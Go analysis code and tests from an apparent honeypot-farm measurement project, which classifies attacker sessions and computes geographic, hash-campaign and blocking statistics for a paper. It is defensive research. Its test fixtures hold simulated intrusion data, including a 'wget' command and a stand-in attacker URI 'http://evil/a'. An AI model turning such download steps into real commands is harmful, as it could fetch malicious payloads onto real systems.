		out = append(out, rep)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].IntrusionSessions != out[j].IntrusionSessions {
			return out[i].IntrusionSessions > out[j].IntrusionSessions
		}
		return out[i].ASN < out[j].ASN
	})
	return out
}
