package analysis

import (
	"honeyfarm/internal/geo"
	"honeyfarm/internal/store"
)

// RegionClass partitions a client's daily interactions by geographic
// relationship to the honeypots it contacted, Figure 16's legend.
type RegionClass uint8

// RegionClass values. A client is classified by the set of relations of
// its sessions that day.
const (
	// OutOnly: every contacted honeypot is on another continent.
	OutOnly RegionClass = iota
	// ContinentAndOut: some same-continent, some other-continent, none
	// in the same country.
	ContinentAndOut
	// ContinentOnly: all within the client's continent, none in the same
	// country.
	ContinentOnly
	// CountryMixed: at least one same-country interaction plus others.
	CountryMixed
	// CountryOnly: every interaction stays inside the client's country.
	CountryOnly
	// NumRegionClasses sizes arrays.
	NumRegionClasses
)

var regionClassNames = [...]string{
	"out-of-continent", "in+out-of-continent", "same-continent",
	"same-country+other", "same-country-only",
}

func (c RegionClass) String() string {
	if int(c) < len(regionClassNames) {
		return regionClassNames[c]
	}
	return "unknown"
}

// classifyRelations reduces a set of per-session relations to a class.
func classifyRelations(sawCountry, sawContinent, sawOut bool) RegionClass {
	switch {
	case sawCountry && !sawContinent && !sawOut:
		return CountryOnly
	case sawCountry:
		return CountryMixed
	case sawContinent && sawOut:
		return ContinentAndOut
	case sawContinent:
		return ContinentOnly
	default:
		return OutOnly
	}
}

// RegionalDiversity is Figure 16: per day, the fraction of clients in
// each region class, plus the day's client count.
type RegionalDiversity struct {
	// Fractions[d][class] sums to 1 for days with clients.
	Fractions [][NumRegionClasses]float64
	Clients   []int
}

// ComputeRegionalDiversity builds Figure 16. deployments supplies each
// honeypot's location; cats restricts to a category set (nil = all),
// which produces the CMD+URI variant of Figure 16(b).
func ComputeRegionalDiversity(s *store.Store, reg *geo.Registry, deployments []geo.Deployment, cats map[Category]bool) RegionalDiversity {
	days := s.NumDays()
	potLoc := make([]geo.Location, len(deployments))
	for i, d := range deployments {
		if loc, ok := reg.Lookup(d.IP); ok {
			potLoc[i] = loc
		}
	}
	type flags struct{ country, continent, out bool }
	perDay := make([]map[string]*flags, days)
	for d := range perDay {
		perDay[d] = make(map[string]*flags)
	}
	for _, r := range s.Records() {
		if cats != nil && !cats[Classify(r)] {
			continue
		}
		d := s.Day(r.Start)
		if d < 0 || d >= days || r.HoneypotID < 0 || r.HoneypotID >= len(potLoc) {
			continue
		}
		cloc, ok := locate(reg, r.ClientIP)
		if !ok {
			continue
		}
		f := perDay[d][r.ClientIP]
		if f == nil {
			f = new(flags)
			perDay[d][r.ClientIP] = f
		}
		switch geo.Relation(cloc, potLoc[r.HoneypotID]) {
		case geo.SameCountry:
			f.country = true
		case geo.SameContinent:
			f.continent = true
		case geo.OtherContinent:
			f.out = true
		}
	}
	rd := RegionalDiversity{
		Fractions: make([][NumRegionClasses]float64, days),
		Clients:   make([]int, days),
	}
	for d := range perDay {
		n := len(perDay[d])
		rd.Clients[d] = n
		if n == 0 {
			continue
		}
		var counts [NumRegionClasses]int
		for _, f := range perDay[d] {
			counts[classifyRelations(f.country, f.continent, f.out)]++
		}
		for c := range counts {
			rd.Fractions[d][c] = float64(counts[c]) / float64(n)
		}
	}
	return rd
}

// MeanFractions averages Figure 16's daily fractions over the period.
func (rd RegionalDiversity) MeanFractions() [NumRegionClasses]float64 {
	var sum [NumRegionClasses]float64
	n := 0
	for d := range rd.Fractions {
		if rd.Clients[d] == 0 {
			continue
		}
		for c := range sum {
			sum[c] += rd.Fractions[d][c]
		}
		n++
	}
	if n > 0 {
		for c := range sum {
			sum[c] /= float64(n)
		}
	}
	return sum
}
