// Package analysis implements the paper's measurement pipeline: the
// session classification of Figure 5 (NO_CRED / FAIL_LOG / NO_CMD / CMD
// / CMD+URI), and every aggregate behind the evaluation's tables and
// figures — per-honeypot activity, client-IP behavior, geography, command
// and password popularity, file-hash campaigns, and freshness.
package analysis

import "honeyfarm/internal/honeypot"

// Category is the paper's session taxonomy (Section 6, Figure 5).
type Category uint8

// Categories in flow-diagram order.
const (
	// NoCred: the client never attempted to log in — scanning.
	NoCred Category = iota
	// FailLog: login attempts, none successful — scouting.
	FailLog
	// NoCmd: successful login, no commands — intrusion.
	NoCmd
	// Cmd: successful login and commands, no external URIs — intrusion.
	Cmd
	// CmdURI: commands plus access to an external resource — intrusion.
	CmdURI
	// NumCategories is the category count, for array sizing.
	NumCategories
)

var categoryNames = [...]string{"NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD+URI"}

func (c Category) String() string {
	if int(c) < len(categoryNames) {
		return categoryNames[c]
	}
	return "UNKNOWN"
}

// Behavior groups categories into the paper's three client behaviors.
type Behavior uint8

// Behavior values.
const (
	// Scanning: port checks without login attempts (NO_CRED).
	Scanning Behavior = iota
	// Scouting: credential-guessing (FAIL_LOG).
	Scouting
	// Intrusion: shell access obtained (NO_CMD, CMD, CMD+URI).
	Intrusion
)

func (b Behavior) String() string {
	switch b {
	case Scanning:
		return "scanning"
	case Scouting:
		return "scouting"
	}
	return "intrusion"
}

// Classify applies Figure 5's flow to one session record:
//
//	credentials? ─no→ NO_CRED
//	  └yes→ success? ─no→ FAIL_LOG
//	          └yes→ commands? ─no→ NO_CMD
//	                  └yes→ URI? ─no→ CMD
//	                          └yes→ CMD+URI
func Classify(r *honeypot.SessionRecord) Category {
	if len(r.Logins) == 0 {
		return NoCred
	}
	if !r.LoggedIn() {
		return FailLog
	}
	if len(r.Commands) == 0 {
		return NoCmd
	}
	if len(r.URIs) == 0 {
		return Cmd
	}
	return CmdURI
}

// BehaviorOf maps a category onto the scanning/scouting/intrusion split.
func BehaviorOf(c Category) Behavior {
	switch c {
	case NoCred:
		return Scanning
	case FailLog:
		return Scouting
	}
	return Intrusion
}
