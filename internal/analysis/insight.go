package analysis

import (
	"sort"
	"time"

	"honeyfarm/internal/store"
)

// FirstSeenLeaders quantifies the paper's early-detection claim
// (Section 8.4, Conclusion): "the honeypots that collect the highest
// number of file hashes are typically the ones that observe the hashes
// earlier than the rest". For every hash it finds the honeypot that saw
// it first, counts first-sightings per honeypot, and reports the overlap
// between the top-k honeypots by unique-hash count and the top-k by
// first-sightings.
type FirstSeenLeaders struct {
	// FirstSeenCount[pot] is the number of hashes that pot observed
	// before any other honeypot.
	FirstSeenCount []int
	// TopOverlap is |top-k by hashes ∩ top-k by first-sightings| / k.
	TopOverlap float64
	// K is the comparison set size.
	K int
}

// ComputeFirstSeenLeaders scans the dataset once.
func ComputeFirstSeenLeaders(s *store.Store, numPots, k int) FirstSeenLeaders {
	type first struct {
		t   time.Time
		pot int
	}
	firsts := make(map[string]first)
	hashesPerPot := make([]map[string]struct{}, numPots)
	for i := range hashesPerPot {
		hashesPerPot[i] = make(map[string]struct{})
	}
	for _, r := range s.Records() {
		if r.HoneypotID < 0 || r.HoneypotID >= numPots {
			continue
		}
		for _, f := range r.Files {
			if cur, ok := firsts[f.Hash]; !ok || r.Start.Before(cur.t) {
				firsts[f.Hash] = first{t: r.Start, pot: r.HoneypotID}
			}
			hashesPerPot[r.HoneypotID][f.Hash] = struct{}{}
		}
	}
	out := FirstSeenLeaders{FirstSeenCount: make([]int, numPots), K: k}
	for _, f := range firsts {
		out.FirstSeenCount[f.pot]++
	}
	topBy := func(score func(int) int) map[int]bool {
		ids := make([]int, numPots)
		for i := range ids {
			ids[i] = i
		}
		sort.Slice(ids, func(a, b int) bool { return score(ids[a]) > score(ids[b]) })
		set := make(map[int]bool, k)
		for i := 0; i < k && i < numPots; i++ {
			set[ids[i]] = true
		}
		return set
	}
	byHashes := topBy(func(i int) int { return len(hashesPerPot[i]) })
	byFirst := topBy(func(i int) int { return out.FirstSeenCount[i] })
	overlap := 0
	for id := range byHashes {
		if byFirst[id] {
			overlap++
		}
	}
	if k > 0 {
		out.TopOverlap = float64(overlap) / float64(min(k, numPots))
	}
	return out
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// FederationGain quantifies the Discussion's "Federated Honeyfarms"
// proposal: split the farm into k independent sub-farms and measure how
// much hash coverage each would have alone versus federated. The paper
// argues sharing "will substantially improve visibility"; this makes the
// claim measurable.
type FederationGain struct {
	Parts int
	// UnionHashes is the full farm's unique hash count.
	UnionHashes int
	// MeanPartShare is the average fraction of the union a single
	// sub-farm observes on its own.
	MeanPartShare float64
	// MinPartShare / MaxPartShare bound the per-sub-farm coverage.
	MinPartShare float64
	MaxPartShare float64
	// MeanEarliestLagDays is the average delay (in days) between the
	// union's first sighting of a hash and a lone sub-farm's first
	// sighting, over hashes the sub-farm eventually sees.
	MeanEarliestLagDays float64
}

// ComputeFederationGain partitions honeypots round-robin into parts
// sub-farms.
func ComputeFederationGain(s *store.Store, numPots, parts int) FederationGain {
	if parts < 1 {
		parts = 1
	}
	union := make(map[string]int) // hash -> first day (union)
	partHashes := make([]map[string]int, parts)
	for i := range partHashes {
		partHashes[i] = make(map[string]int)
	}
	for _, r := range s.Records() {
		if r.HoneypotID < 0 || r.HoneypotID >= numPots {
			continue
		}
		p := r.HoneypotID % parts
		day := s.Day(r.Start)
		for _, f := range r.Files {
			if d, ok := union[f.Hash]; !ok || day < d {
				union[f.Hash] = day
			}
			if d, ok := partHashes[p][f.Hash]; !ok || day < d {
				partHashes[p][f.Hash] = day
			}
		}
	}
	out := FederationGain{Parts: parts, UnionHashes: len(union), MinPartShare: 1}
	if len(union) == 0 {
		out.MinPartShare = 0
		return out
	}
	var lagSum float64
	var lagN int
	for _, ph := range partHashes {
		share := float64(len(ph)) / float64(len(union))
		out.MeanPartShare += share / float64(parts)
		if share < out.MinPartShare {
			out.MinPartShare = share
		}
		if share > out.MaxPartShare {
			out.MaxPartShare = share
		}
		for h, day := range ph {
			lagSum += float64(day - union[h])
			lagN++
		}
	}
	if lagN > 0 {
		out.MeanEarliestLagDays = lagSum / float64(lagN)
	}
	return out
}

// BlockingImpact evaluates the Discussion's complaint that long-lived
// campaigns running on a handful of IPs go unblocked for months: if
// every client IP of a small long campaign were blocked graceDays after
// the campaign's first sighting, how many of its sessions would have
// been prevented?
type BlockingImpact struct {
	// Campaigns is the number of long-lived small-IP campaigns found
	// (≥ minDays active days, ≤ maxIPs client IPs).
	Campaigns int
	// TotalSessions across those campaigns.
	TotalSessions int
	// PreventableSessions occur after the block would have landed.
	PreventableSessions int
	// PreventableShare is Preventable/Total.
	PreventableShare float64
}

// ComputeBlockingImpact scans the dataset for the what-if.
func ComputeBlockingImpact(s *store.Store, hs []HashStat, minDays, maxIPs, graceDays int) BlockingImpact {
	targets := make(map[string]int) // hash -> block day
	for _, h := range hs {
		if h.Days >= minDays && h.ClientIPs <= maxIPs {
			targets[h.Hash] = h.FirstDay + graceDays
		}
	}
	out := BlockingImpact{Campaigns: len(targets)}
	if len(targets) == 0 {
		return out
	}
	for _, r := range s.Records() {
		day := s.Day(r.Start)
		counted := false
		for _, f := range r.Files {
			blockDay, ok := targets[f.Hash]
			if !ok || counted {
				continue
			}
			counted = true
			out.TotalSessions++
			if day >= blockDay {
				out.PreventableSessions++
			}
		}
	}
	if out.TotalSessions > 0 {
		out.PreventableShare = float64(out.PreventableSessions) / float64(out.TotalSessions)
	}
	return out
}
