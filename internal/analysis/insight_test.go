package analysis

import (
	"testing"
	"time"

	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/store"
)

func fileRec(day, hour, pot int, ip, hash string) *honeypot.SessionRecord {
	start := epoch.Add(time.Duration(day)*24*time.Hour + time.Duration(hour)*time.Hour)
	return &honeypot.SessionRecord{
		HoneypotID: pot, ClientIP: ip,
		Start: start, End: start.Add(time.Minute),
		Logins:   []honeypot.LoginAttempt{{User: "root", Password: "x", Success: true}},
		Commands: []honeypot.CommandRecord{{Input: "x", Known: true}},
		Files:    []honeypot.FileRecord{{Hash: hash, Op: "create"}},
	}
}

func TestFirstSeenLeaders(t *testing.T) {
	s := store.New(epoch)
	// Pot 0 sees h1 first (hour 1) and h2 first; pot 1 sees them later.
	s.Add(fileRec(0, 1, 0, "1.1.1.1", "h1"))
	s.Add(fileRec(0, 5, 1, "2.2.2.2", "h1"))
	s.Add(fileRec(1, 1, 0, "1.1.1.1", "h2"))
	s.Add(fileRec(2, 1, 1, "2.2.2.2", "h2"))
	s.Add(fileRec(3, 1, 1, "2.2.2.2", "h3"))

	fl := ComputeFirstSeenLeaders(s, 2, 1)
	if fl.FirstSeenCount[0] != 2 || fl.FirstSeenCount[1] != 1 {
		t.Errorf("first seen = %v", fl.FirstSeenCount)
	}
	// Pot 1 has the most unique hashes (3), pot 0 the most firsts (2):
	// top-1 sets differ, overlap 0.
	if fl.TopOverlap != 0 {
		t.Errorf("overlap = %v, want 0", fl.TopOverlap)
	}
	// With k=2 both pots are in both sets.
	fl2 := ComputeFirstSeenLeaders(s, 2, 2)
	if fl2.TopOverlap != 1 {
		t.Errorf("k=2 overlap = %v, want 1", fl2.TopOverlap)
	}
}

func TestFederationGain(t *testing.T) {
	s := store.New(epoch)
	// Pots 0 and 1 → part 0 and part 1 under parts=2.
	s.Add(fileRec(0, 1, 0, "1.1.1.1", "shared")) // part 0 sees day 0
	s.Add(fileRec(5, 1, 1, "2.2.2.2", "shared")) // part 1 sees day 5
	s.Add(fileRec(1, 1, 0, "1.1.1.1", "only0"))
	s.Add(fileRec(2, 1, 1, "2.2.2.2", "only1"))

	fg := ComputeFederationGain(s, 2, 2)
	if fg.UnionHashes != 3 {
		t.Fatalf("union = %d", fg.UnionHashes)
	}
	// Each part sees 2 of 3 hashes.
	if fg.MeanPartShare < 0.66 || fg.MeanPartShare > 0.67 {
		t.Errorf("mean share = %v, want 2/3", fg.MeanPartShare)
	}
	if fg.MinPartShare != fg.MaxPartShare {
		t.Errorf("shares should be equal: %v vs %v", fg.MinPartShare, fg.MaxPartShare)
	}
	// Lag: part 0 lags 0+0, part 1 lags 5 (shared) + 0 (only1) → mean 5/4.
	if fg.MeanEarliestLagDays != 1.25 {
		t.Errorf("lag = %v, want 1.25", fg.MeanEarliestLagDays)
	}
	// Degenerate cases.
	empty := ComputeFederationGain(store.New(epoch), 2, 2)
	if empty.UnionHashes != 0 || empty.MinPartShare != 0 {
		t.Errorf("empty = %+v", empty)
	}
	one := ComputeFederationGain(s, 2, 0) // clamped to 1 part
	if one.MeanPartShare != 1 {
		t.Errorf("single part share = %v, want 1", one.MeanPartShare)
	}
}

func TestBlockingImpact(t *testing.T) {
	s := store.New(epoch)
	// A 3-IP campaign active days 0..40: one session per day.
	for d := 0; d <= 40; d++ {
		s.Add(fileRec(d, 1, 0, "9.9.9.9", "longcamp"))
	}
	// A big-botnet hash: excluded by maxIPs.
	for i := 0; i < 30; i++ {
		s.Add(fileRec(i, 2, 1, "10.0.0."+string(rune('0'+i%10)), "botnet"))
	}
	hs := ComputeHashStats(s, nil)
	bi := ComputeBlockingImpact(s, hs, 30, 5, 7)
	if bi.Campaigns != 1 {
		t.Fatalf("campaigns = %d, want 1 (only the small long one)", bi.Campaigns)
	}
	if bi.TotalSessions != 41 {
		t.Errorf("total = %d, want 41", bi.TotalSessions)
	}
	// Sessions on days 7..40 are preventable: 34 of 41.
	if bi.PreventableSessions != 34 {
		t.Errorf("preventable = %d, want 34", bi.PreventableSessions)
	}
	if bi.PreventableShare < 0.8 || bi.PreventableShare > 0.85 {
		t.Errorf("share = %v", bi.PreventableShare)
	}
	none := ComputeBlockingImpact(s, nil, 30, 5, 7)
	if none.Campaigns != 0 || none.PreventableShare != 0 {
		t.Errorf("no targets = %+v", none)
	}
}

func TestAbuseReports(t *testing.T) {
	reg := geoRegistry()
	s := store.New(epoch)
	// Two clients from one AS, one intrusion-heavy; one from another.
	as1 := reg.ASes()[0]
	as2 := reg.ASes()[1]
	ip1a := geo.Uint32ToAddr(as1.Base).String()
	ip1b := geo.Uint32ToAddr(as1.Base + 1).String()
	ip2 := geo.Uint32ToAddr(as2.Base).String()

	s.Add(fileRec(0, 1, 0, ip1a, "h1")) // intrusion with hash
	s.Add(fileRec(1, 1, 0, ip1a, "h2"))
	r := fileRec(2, 1, 0, ip1b, "h1")
	r.Files = nil
	r.Commands = nil // NO_CMD intrusion
	s.Add(r)
	scan := fileRec(0, 2, 1, ip2, "x")
	scan.Logins, scan.Commands, scan.Files = nil, nil, nil // NO_CRED
	s.Add(scan)

	reports := ComputeAbuseReports(s, reg, 1)
	if len(reports) != 2 {
		t.Fatalf("reports = %d", len(reports))
	}
	top := reports[0]
	if top.ASN != as1.ASN {
		t.Errorf("top AS = %d, want %d", top.ASN, as1.ASN)
	}
	if top.ClientIPs != 2 || top.Sessions != 3 || top.IntrusionSessions != 3 || top.Hashes != 2 {
		t.Errorf("top = %+v", top)
	}
	if len(top.ExampleIPs) == 0 || top.ExampleIPs[0] != ip1a {
		t.Errorf("examples = %v", top.ExampleIPs)
	}
	// minSessions filters the scan-only AS.
	filtered := ComputeAbuseReports(s, reg, 2)
	if len(filtered) != 1 {
		t.Errorf("filtered = %d, want 1", len(filtered))
	}
}

var cachedReg *geo.Registry

func geoRegistry() *geo.Registry {
	if cachedReg == nil {
		cachedReg = geo.NewRegistry(geo.Config{Seed: 1})
	}
	return cachedReg
}
