package analysis

import (
	"bytes"
	"encoding/json"
	"math/rand"
	"reflect"
	"sync"
	"testing"
	"testing/quick"

	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/wire"
)

const quickNumPots = 13

// wireReg is the shared registry for country-table properties; built
// once, it is read-only thereafter.
var (
	wireRegOnce sync.Once
	wireReg     *geo.Registry
	wireIPs     []string
)

func quickRegistry() (*geo.Registry, []string) {
	wireRegOnce.Do(func() {
		wireReg = geo.NewRegistry(geo.Config{Seed: 7})
		for _, as := range wireReg.ASes()[:64] {
			if loc, ok := wireReg.Lookup(as.Base); ok {
				wireIPs = append(wireIPs, loc.IP.String())
			}
		}
	})
	return wireReg, wireIPs
}

// dayRec is one (record, day) fold input.
type dayRec struct {
	rec *honeypot.SessionRecord
	day int
}

// quickFold wraps a random fold input so testing/quick can generate it.
// The draws deliberately collide: a small IP pool (some resolvable in
// the registry), a small hash pool, and a small day range, so merges
// actually exercise set-union paths instead of disjoint inserts.
type quickFold struct{ recs []dayRec }

func (quickFold) Generate(r *rand.Rand, size int) reflect.Value {
	_, ips := quickRegistry()
	hashes := []string{"aa01", "bb02", "cc03", "dd04"}
	n := r.Intn(size + 1)
	recs := make([]dayRec, 0, n)
	for i := 0; i < n; i++ {
		m := mk{
			day: r.Intn(9) - 1,            // include day -1: sets must carry negatives
			pot: r.Intn(quickNumPots + 2), // some out of table range
			ip:  ips[r.Intn(len(ips))],
		}
		switch r.Intn(4) {
		case 1:
			m.logins = failLogin()
		case 2:
			m.logins, m.commands = okLogin(), cmd("wget x")
		case 3:
			m.logins = okLogin()
			m.files = []honeypot.FileRecord{{Path: "/tmp/a", Hash: hashes[r.Intn(len(hashes))], Op: "wget", Size: 100}}
			m.uris = []string{"http://evil/a"}
		}
		if r.Intn(3) == 0 {
			m.proto = honeypot.Telnet
		}
		rec := m.rec()
		rec.ClientVersion = "SSH-2.0-x"
		recs = append(recs, dayRec{rec: rec, day: m.day})
	}
	return reflect.ValueOf(quickFold{recs})
}

func foldBundle(recs []dayRec, reg *geo.Registry, countries bool) *Partials {
	p := NewPartials(quickNumPots, reg, countries)
	for _, dr := range recs {
		p.Add(dr.rec, dr.day)
	}
	return p
}

// finalizeAll materializes every table of a bundle, JSON-encoded so
// equality means byte-identity of the served artifact.
func finalizeAll(t *testing.T, p *Partials) []byte {
	t.Helper()
	out := struct {
		Summary   CategoryShares
		Pots      []PerHoneypot
		Clients   []ClientStat
		Countries []CountryCount
		Hashes    []HashStat
	}{
		Summary: p.Cats.Finalize(),
		Pots:    p.Pots.Finalize(),
		Clients: p.Clients.Finalize(),
		Hashes:  p.Hashes.Finalize(nil),
	}
	if p.Countries != nil {
		out.Countries = p.Countries.Finalize()
	}
	b, err := json.Marshal(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func encodeBundle(p *Partials) []byte {
	b := wire.NewBuilder(4 << 10)
	p.Encode(b)
	return b.Bytes()
}

func decodeBundle(t *testing.T, raw []byte) *Partials {
	t.Helper()
	r := wire.NewReader(raw)
	r.SetMaxStringLen(len(raw))
	p, err := DecodePartials(r)
	if err != nil {
		t.Fatalf("decode: %v", err)
	}
	if r.Remaining() != 0 {
		t.Fatalf("decode left %d bytes", r.Remaining())
	}
	return p
}

// TestPartialsWireMergeEquivalence is the distributed-merge contract:
// for any two shards' fold inputs, encoding each shard's bundle,
// decoding fresh copies, and merging them equals folding all records
// directly — for every accumulator type, including empty and
// single-entry bundles (quick draws sizes from zero up).
func TestPartialsWireMergeEquivalence(t *testing.T) {
	reg, _ := quickRegistry()
	for _, countries := range []bool{true, false} {
		prop := func(a, b quickFold) bool {
			direct := foldBundle(append(append([]dayRec{}, a.recs...), b.recs...), reg, countries)
			dest := NewPartials(quickNumPots, nil, countries)
			for _, f := range []quickFold{a, b} {
				enc := encodeBundle(foldBundle(f.recs, reg, countries))
				if err := dest.Merge(decodeBundle(t, enc)); err != nil {
					t.Fatalf("merge: %v", err)
				}
			}
			return bytes.Equal(finalizeAll(t, direct), finalizeAll(t, dest))
		}
		if err := quick.Check(prop, &quick.Config{MaxCount: 60}); err != nil {
			t.Errorf("countries=%v: %v", countries, err)
		}
	}
}

// TestPartialsWireSingleAndEmpty pins the edge shapes explicitly: an
// empty bundle and a one-record bundle round-trip and merge cleanly.
func TestPartialsWireSingleAndEmpty(t *testing.T) {
	reg, ips := quickRegistry()
	empty := NewPartials(quickNumPots, reg, true)
	one := NewPartials(quickNumPots, reg, true)
	rec := mk{day: 3, pot: 1, ip: ips[0], logins: okLogin(), commands: cmd("ls")}.rec()
	one.Add(rec, 3)
	for name, p := range map[string]*Partials{"empty": empty, "single": one} {
		dec := decodeBundle(t, encodeBundle(p))
		if !bytes.Equal(finalizeAll(t, p), finalizeAll(t, dec)) {
			t.Errorf("%s: decoded bundle finalizes differently", name)
		}
		dest := NewPartials(quickNumPots, nil, true)
		if err := dest.Merge(dec); err != nil {
			t.Errorf("%s: merge: %v", name, err)
		}
	}
}

// TestPartialsEncodeDeterminism: the encoding is a function of the
// accumulated state, not of fold order or map iteration order — two
// bundles folded from permuted streams produce identical bytes.
func TestPartialsEncodeDeterminism(t *testing.T) {
	reg, _ := quickRegistry()
	rng := rand.New(rand.NewSource(5))
	f, _ := quickFold{}.Generate(rng, 80).Interface().(quickFold)
	fwd := foldBundle(f.recs, reg, true)
	shuffled := append([]dayRec{}, f.recs...)
	rng.Shuffle(len(shuffled), func(i, j int) { shuffled[i], shuffled[j] = shuffled[j], shuffled[i] })
	rev := foldBundle(shuffled, reg, true)
	a, b := encodeBundle(fwd), encodeBundle(rev)
	if !bytes.Equal(a, b) {
		t.Fatalf("permuted fold changed encoding: %d vs %d bytes", len(a), len(b))
	}
	// Decode → re-encode is also byte-stable.
	if c := encodeBundle(decodeBundle(t, a)); !bytes.Equal(a, c) {
		t.Fatal("decode→re-encode changed bytes")
	}
}

// TestPartialsDecodeRejects: corrupt or mismatched bundles fail loudly
// instead of misdecoding.
func TestPartialsDecodeRejects(t *testing.T) {
	reg, _ := quickRegistry()
	raw := encodeBundle(foldBundle(nil, reg, true))

	bad := append([]byte{}, raw...)
	bad[0] = 99 // version byte
	r := wire.NewReader(bad)
	r.SetMaxStringLen(len(bad))
	if _, err := DecodePartials(r); err == nil {
		t.Error("version 99 decoded")
	}
	for _, n := range []int{1, len(raw) / 2, len(raw) - 1} {
		r := wire.NewReader(raw[:n])
		r.SetMaxStringLen(n)
		if _, err := DecodePartials(r); err == nil {
			t.Errorf("truncation at %d decoded", n)
		}
	}

	// Shape mismatches refuse to merge.
	with := NewPartials(quickNumPots, reg, true)
	without := NewPartials(quickNumPots, nil, false)
	if err := with.Merge(without); err == nil {
		t.Error("country-table mismatch merged")
	}
	small := NewPartials(quickNumPots-1, nil, true)
	if err := with.Merge(small); err == nil {
		t.Error("pot-table size mismatch merged")
	}
}
