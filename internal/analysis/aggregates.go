package analysis

import (
	"sort"
	"time"

	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/shell"
	"honeyfarm/internal/stats"
	"honeyfarm/internal/store"
)

// CategoryShares is Table 1: the fraction of sessions per category,
// overall and per protocol, plus each category's protocol split.
type CategoryShares struct {
	Total int
	// Overall[c] is the fraction of all sessions in category c.
	Overall [NumCategories]float64
	// SSHShareOfCategory[c] is, within category c, the fraction using SSH
	// (Table 1's second row; Telnet is the complement).
	SSHShareOfCategory [NumCategories]float64
	// SSHTotal is the fraction of all sessions using SSH.
	SSHTotal float64
}

// ComputeCategoryShares reproduces Table 1 from a dataset. The scan
// fans out over record ranges into CategoryAccum partials — the same
// fold internal/query runs incrementally.
func ComputeCategoryShares(s *store.Store) CategoryShares {
	acc := mapReduce(s.Records(),
		func(recs []*honeypot.SessionRecord) *CategoryAccum {
			a := new(CategoryAccum)
			for _, r := range recs {
				a.Add(r)
			}
			return a
		},
		func(dst, src *CategoryAccum) *CategoryAccum {
			dst.Merge(src)
			return dst
		})
	return acc.Finalize()
}

// Counted is a generic (value, count) pair for top-N tables.
type Counted struct {
	Value string
	Count int
}

func topN(counts map[string]int, n int) []Counted {
	out := make([]Counted, 0, len(counts))
	for v, c := range counts {
		out = append(out, Counted{v, c})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].Value < out[j].Value
	})
	if n > 0 && len(out) > n {
		out = out[:n]
	}
	return out
}

// TopPasswords reproduces Table 2: the most-used successful passwords.
func TopPasswords(s *store.Store, n int) []Counted {
	counts := make(map[string]int)
	for _, r := range s.Records() {
		for _, l := range r.Logins {
			if l.Success {
				counts[l.Password]++
			}
		}
	}
	return topN(counts, n)
}

// TopUsernames returns the most-attempted usernames (successful or not);
// the paper notes "nproc", "admin", and "user" among the most frequent.
func TopUsernames(s *store.Store, n int) []Counted {
	counts := make(map[string]int)
	for _, r := range s.Records() {
		for _, l := range r.Logins {
			counts[l.User]++
		}
	}
	return topN(counts, n)
}

// TopCommands reproduces Table 3: recorded command strings split at
// command separators (';' and '|'), ranked by occurrence.
func TopCommands(s *store.Store, n int) []Counted {
	counts := make(map[string]int)
	for _, r := range s.Records() {
		for _, c := range r.Commands {
			for _, seg := range shell.SplitSegments(c.Input) {
				counts[seg]++
			}
		}
	}
	return topN(counts, n)
}

// TopClientVersions ranks the SSH client identification strings the
// honeypots record during the handshake (Section 4); fingerprinting
// these strings is how related work (Ghiëtte et al.) identified 49
// distinct attack toolchains.
func TopClientVersions(s *store.Store, n int) []Counted {
	counts := make(map[string]int)
	for _, r := range s.Records() {
		if r.ClientVersion != "" {
			counts[r.ClientVersion]++
		}
	}
	return topN(counts, n)
}

// PerHoneypot aggregates one honeypot's totals, the basis of Figures 2,
// 14, 18 and 19.
type PerHoneypot struct {
	Sessions int
	Clients  int // unique client IPs
	Hashes   int // unique file hashes
}

// ComputePerHoneypot returns per-honeypot totals indexed by honeypot ID.
// numPots sizes the result; IDs outside [0, numPots) are ignored. The
// scan fans out over record ranges into PotAccum partials; session
// counts sum and client/hash sets union, so the reduce is
// order-insensitive.
func ComputePerHoneypot(s *store.Store, numPots int) []PerHoneypot {
	acc := mapReduce(s.Records(),
		func(recs []*honeypot.SessionRecord) *PotAccum {
			a := NewPotAccum(numPots)
			for _, r := range recs {
				a.Add(r)
			}
			return a
		},
		func(dst, src *PotAccum) *PotAccum {
			dst.Merge(src)
			return dst
		})
	return acc.Finalize()
}

// SessionRank returns the descending session-count curve of Figure 2.
func SessionRank(per []PerHoneypot) []float64 {
	vals := make([]float64, len(per))
	for i, p := range per {
		vals[i] = float64(p.Sessions)
	}
	return stats.RankCurve(vals)
}

// DailyMatrix builds values[day][pot] = #sessions, optionally filtered
// to one category (pass -1 for all), the input to Figures 3, 4, 8, 9.
func DailyMatrix(s *store.Store, numPots int, cat int) [][]float64 {
	days := s.NumDays()
	if days <= 0 {
		return nil
	}
	m := make([][]float64, days)
	for i := range m {
		m[i] = make([]float64, numPots)
	}
	for _, r := range s.Records() {
		if cat >= 0 && Classify(r) != Category(cat) {
			continue
		}
		d := s.Day(r.Start)
		if d < 0 || d >= days || r.HoneypotID < 0 || r.HoneypotID >= numPots {
			continue
		}
		m[d][r.HoneypotID]++
	}
	return m
}

// TopPotsByActivity returns the IDs of the top fraction (e.g. 0.05 for
// the paper's "top 5% of honeypots") by total session count. Ties break
// toward the lower honeypot ID: sort.Slice is unstable, so without the
// tie-break equally-active honeypots would reorder run to run.
func TopPotsByActivity(per []PerHoneypot, fraction float64) []int {
	type kv struct{ id, sessions int }
	all := make([]kv, len(per))
	for i, p := range per {
		all[i] = kv{i, p.Sessions}
	}
	sort.Slice(all, func(i, j int) bool {
		if all[i].sessions != all[j].sessions {
			return all[i].sessions > all[j].sessions
		}
		return all[i].id < all[j].id
	})
	n := int(float64(len(per))*fraction + 0.5)
	if n < 1 {
		n = 1
	}
	if n > len(all) {
		n = len(all)
	}
	ids := make([]int, n)
	for i := 0; i < n; i++ {
		ids[i] = all[i].id
	}
	return ids
}

// FilterMatrixPots restricts a [day][pot] matrix to the given pot IDs.
func FilterMatrixPots(m [][]float64, ids []int) [][]float64 {
	out := make([][]float64, len(m))
	for d := range m {
		row := make([]float64, len(ids))
		for i, id := range ids {
			if id < len(m[d]) {
				row[i] = m[d][id]
			}
		}
		out[d] = row
	}
	return out
}

// PercentileSeries computes the median/IQR/5-95 bands per day from a
